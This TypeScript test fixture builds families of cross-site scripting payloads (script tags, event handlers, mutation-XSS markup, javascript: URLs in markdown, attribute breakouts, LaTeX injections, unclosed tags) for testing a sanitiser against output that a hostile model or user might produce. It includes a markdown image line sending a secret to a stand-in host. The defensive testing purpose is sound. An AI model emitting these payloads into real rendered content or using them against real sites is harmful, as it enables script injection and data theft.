/**
 * What a hostile model, upstream or user could write to make the page run a script or fetch something, in families. A payload that works
 * sets `window.__pwned` or sends a request to another host. Families multiply carriers by disguises, so that a sanitiser is tested with
 * combinations and not only with the parts.
 */

const script = 'window.__pwned=1'
const elsewhere = 'http://foreign.invalid'

const rawHtml = [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<script src=${elsewhere}/x.js></script>`,
  `<script src="data:text/javascript,${script}"></script>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="${elsewhere}/x.svg"></object>`,
  `<embed src="${elsewhere}/x.svg">`,
  `<base href="${elsewhere}/">`,
  `<link rel=stylesheet href="${elsewhere}/x.css">`,
  `<link rel=prefetch href="${elsewhere}/x">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}/">`,
  `<style>@import '${elsewhere}/x.css';</style>`,
  `<div style="background:url(${elsewhere}/x)">x</div>`,
  `<form action="${elsewhere}/"><input autofocus onfocus="${script}"><button formaction="javascript:${script}">x</button></form>`,
  `<template><img src=x onerror="${script}"></template>`,
  `<dialog open><img src=x onerror="${script}"></dialog>`,
  `<audio src=${elsewhere}/x autoplay></audio>`,
  `<video poster=${elsewhere}/x><source src=${elsewhere}/y onerror="${script}"></video>`,
  `<picture><source srcset="${elsewhere}/x"><img src="${elsewhere}/y"></picture>`,
]

/** Elements that fire an event by themselves, with the event, in several spellings of the tag. */
const firing: [element: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img/src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['video src=x', 'onerror'],
  ['iframe', 'onload'],
  ['marquee', 'onstart'],
]
const spellings = [
  (element: string, event: string) => `<${element} ${event}="${script}">`,
  (element: string, event: string) => `<${element.toUpperCase()}\n${event.toUpperCase()}=${script}>`,
  (element: string, event: string) => `<${element}/${event}='${script}'//`,
  (element: string, event: string) => `<p><${element}\t${event}\u000c=\n"${script.replace('_', '&#95;')}"></p>`,
  (element: string, event: string) => `before &lt;b&gt; <${element} x="\`>" ${event}=${script}>`,
]
const handlers = firing.flatMap(([element, event]) => spellings.map((spell) => spell(element, event)))

/** Markup whose meaning changes between a sanitiser's parse and the page's. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${script} src=x>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${script}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><script href="data:text/javascript,${script}"/></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${script}'/></svg>#x">`,
  `<svg><image href="${elsewhere}/x.png"></svg>`,
  `<svg><foreignObject><iframe onload=${script}></foreignObject></svg>`,
  `<svg><style>@import url(${elsewhere}/x.css)</style></svg>`,
  `<math href="javascript:${script}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${script}></annotation-xml></math>`,
  `<select><template><img src=x onerror=${script}></template></select>`,
  `<table><td><select><img src=x onerror=${script}></select></table>`,
  `<![CDATA[><img src=x onerror=${script}>]]>`,
  `<?xml <img src=x onerror=${script}> ?>`,
  `<!--><img src=x onerror=${script}>-->`,
  `<img name=body><img id=attributes><form id=__pwned><input name=cookie>`,
  `<a id=location href=javascript:${script}><a id=location name=href>x</a>`,
]

const schemes = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java\tscript:${script}`,
  `\u0001javascript:${script}`,
  `javascript&colon;${script}`,
  `&#106;avascript:${script}`,
  `&#x6A&#x61vascript:${script}`,
  `javascript%3A${script}`,
  `vbscript:${script}`,
  `data:text/html,<script>opener.__pwned=1</script>`,
  `data:image/svg+xml,<svg onload=${script}>`,
  `//foreign.invalid/javascript:${script}`,
  `blob:${elsewhere}/x`,
  `filesystem:${elsewhere}/x`,
]
/** Every construct in which markdown takes a URL. */
const places = [
  (address: string) => `[click](${address})`,
  (address: string) => `[click](<${address}> "title")`,
  (address: string) => `![image](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[ref][${address.length}]\n\n[${address.length}]: ${address} "title"`,
  (address: string) => `<a href="${address}">click</a>`,
]
const addresses = schemes.flatMap((address) => places.map((place) => place(address)))

/** Breaks out of the attribute or construct that the renderer writes around a text. */
const breakouts = ['"', "'", '`', '">', "'>", '</a>', '&quot;>', '\\">'].flatMap((end) => {
  const rest = `${end}<img src=x onerror=${script}> onmouseover=${script} x=${end}`
  return [
    `[link](http://127.0.0.1:9/x "title${rest}")`,
    `![alt${rest}](data:image/png;base64,AA==)`,
    `\`\`\`html${rest.replaceAll('`', '')}\n${rest}\n\`\`\``,
    `| a${rest} | b |\n| :-${end} | --- |\n| ${rest} | [x](javascript:${script}) |`,
  ]
})

const formulas = [
  `\\href{javascript:${script}}{x}`,
  `\\url{javascript:${script}}`,
  `\\htmlData{x=1,onclick=${script}}{x}`,
  `\\htmlStyle{background:url(${elsewhere}/x)}{x}`,
  `\\htmlClass{x" onclick="${script}}{x}`,
  `\\htmlId{__pwned}{x}`,
  `\\includegraphics{${elsewhere}/x.png}`,
  `\\text{<img src=x onerror=${script}>}`,
  `\\unicode{<img src=x onerror=${script}>}`,
  `</span><img src=x onerror=${script}>`,
  `\\color{red;background:url(${elsewhere}/x)}x`,
  `\\def\\a{\\a\\a}\\a`,
].flatMap((formula) => [`$${formula}$`, `$$\n${formula}\n$$`, `\\(${formula}\\)`])

const nested = [
  `[![<img src=x onerror=${script}>](${elsewhere}/x.png)](javascript:${script})`,
  `> - 1. [x](javascript:${script}) <img src=x onerror=${script}>`,
  `**<img src=x onerror=${script}>** ~~<svg onload=${script}>~~`,
  `# <img src=x onerror=${script}>\n===`,
  `- [x] <input autofocus onfocus=${script}>`,
  `[^1]\n\n[^1]: <img src=x onerror=${script}>`,
  `\`<img src=x onerror=${script}>\` \\<img src=x onerror=${script}>`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${script}>"]; click A "javascript:${script}"\n\`\`\``,
  `\`\`\`xml\n</code></pre><img src=x onerror=${script}>\n\`\`\``,
  `&lt;img src=x onerror=${script}&gt; &amp;lt;script&amp;gt;`,
  `![exfiltrate](${elsewhere}/?q=secret) ![x](//foreign.invalid/x.png)`,
  `{{constructor.constructor('${script}')()}} \${${script}} <%= ${script} %>`,
  `\u202e<img src=x onerror=${script}>\u2066\u{e0041}`,
]

/** Unclosed constructs, which contain the rest of a reply. They come last. */
const unclosed = [
  `<img src=x onerror=${script} `,
  `<a href="javascript:${script}`,
  `<script>${script}`,
  `[x](javascript:${script}`,
  `<!-- <img src=x onerror=${script}>`,
  `$$ \\href{javascript:${script}}{`,
  `\`\`\`html\n<img src=x onerror=${script}>`,
]

export const families = {
  rawHtml,
  handlers,
  mutating,
  addresses,
  breakouts,
  formulas,
  nested,
  unclosed,
}
export const payloads: readonly string[] = Object.values(families).flat()
